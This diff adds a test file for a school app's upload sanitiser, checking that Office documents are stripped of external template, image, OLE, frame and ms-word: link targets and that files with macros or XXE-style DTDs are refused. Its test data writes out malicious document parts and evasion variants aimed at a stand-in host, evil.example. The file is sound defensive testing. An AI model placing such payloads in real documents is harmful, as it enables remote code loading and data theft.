@@ -1,0 +1,91 @@
+import { buffer } from 'node:stream/consumers';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { fromBufferPromise } from 'yauzl';
+import { ERROR_MESSAGES } from '#contract/errors.ts';
+import { buildTestApp, type TestApp } from '#test/app.ts';
+import { createSchool, type TestSchool } from '#test/factories.ts';
+import { fetchFile, sendFile, uploadFile } from '#test/files.ts';
+import { officeWith } from '#test/pictures.ts';
+
+/** Documents pass nothing on that runs, or that fetches something when it is opened. */
+
+let test: TestApp;
+let school: TestSchool;
+beforeAll(async () => {
+  test = await buildTestApp();
+  school = await createSchool(test);
+});
+afterAll(() => test.close());
+
+const EVIL = 'https://evil.example/t.dotm';
+const list = (...attributes: readonly string[]) =>
+  `<Relationships>${attributes.map((each, at) => `<Relationship Id="rId${at}" ${each}/>`).join('')}</Relationships>`;
+const external = (kind: string, target: string) =>
+  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"`;
+
+async function servedPart(part: string, content: string | Buffer): Promise<string> {
+  const { url } = await uploadFile(test, school.owner, officeWith({ [part]: content }), 'a.docx');
+  const zip = await fromBufferPromise((await fetchFile(test, url)).rawPayload, { lazyEntries: true });
+  for await (const entry of zip.eachEntry())
+    if (entry.fileName === part) return String(await buffer(await zip.openReadStreamPromise(entry)));
+  return '';
+}
+
+it.each([
+  ['a template', external('attachedTemplate', EVIL)],
+  ['a picture', external('image', EVIL)],
+  ['an object', external('oleObject', `mhtml:${EVIL}!x`)],
+  ['a frame', external('frame', '\\\\evil.example\\share')],
+  ['a workbook', external('externalLinkPath', '//evil.example/x.xlsx')],
+  ['a link that runs something', external('hyperlink', 'ms-word:ofe|u|https://evil.example')],
+  ['a mode written as references', `Type="t/image" Target="${EVIL}" TargetMode="Extern&#97;l"`],
+  ['an address without a mode', `Type="t/image" Target="${EVIL}"`],
+  ['an element with a prefix', `Type='t/image' Target = '${EVIL}' TargetMode='External'`],
+])('a document does not fetch %s from elsewhere', async (_, attributes) => {
+  const part = 'word/_rels/settings.xml.rels';
+  const served = await servedPart(part, list(attributes, 'Type="t/styles" Target="styles.xml"'));
+  expect(served).not.toContain('evil');
+  expect(served).toContain('Target="NULL"');
+  expect(served).toContain('Target="styles.xml"');
+});
+
+it('keeps links that a reader follows', async () => {
+  const targets = [
+    'https://school.example/?a=1&#38;b=2',
+    'mailto:office@school.example',
+    'tel:+4420',
+    'menu.pdf',
+    '#top',
+  ];
+  const served = await servedPart(
+    'word/_rels/document.xml.rels',
+    list(...targets.map((target) => external('hyperlink', target))),
+  );
+  for (const target of targets) expect(served).toContain(`Target="${target}"`);
+});
+
+const DTD = '<!DOCTYPE d [<!ENTITY a SYSTEM "https://evil.example">]><d>&a;</d>';
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+
+it.each<readonly [string, Record<string, string | Buffer>]>([
+  ['macros', { 'word/vbaProject.bin': 'x' }],
+  [
+    'macros under another name',
+    { 'word/_rels/document.xml.rels': list('Type="t/vbaProject" Target="menu.bin"') },
+  ],
+  ['a web page to be taken in', { 'word/_rels/document.xml.rels': list('Type="t/aFChunk" Target="a.mht"') }],
+  ['a document with macros in it', { 'word/embeddings/a.xlsm': officeWith({ 'xl/vbaProject.bin': 'x' }) }],
+  ['a document type', { 'word/document.xml': DTD }],
+  ['one after a comment', { 'word/numbering.xml': `<?xml version="1.0"?>\n<!-- <d> -->${DTD}` }],
+  ['one in UTF-16', { 'customXml/item1.xml': utf16(DTD) }],
+])('a document with %s is refused with a sentence', async (_, parts) => {
+  const refused = await sendFile(test, school.owner, officeWith(parts), 'a.docx');
+  expect([refused.status, refused.error().error_message]).toEqual([400, ERROR_MESSAGES.fileRuns]);
+});
+
+it('takes a document with parts in UTF-16 and a long comment first', async () => {
+  const comment = `<!--${'x'.repeat(30_000)}-->`;
+  expect(await servedPart('customXml/item1.xml', `<?xml version="1.0"?>${comment}<d/>`)).toContain('<d/>');
+  const parts = { 'customXml/item1.xml': utf16('<?xml version="1.0" encoding="utf-16"?><d/>') };
+  expect((await sendFile(test, school.owner, officeWith(parts), 'a.docx')).status).toBe(201);
+});
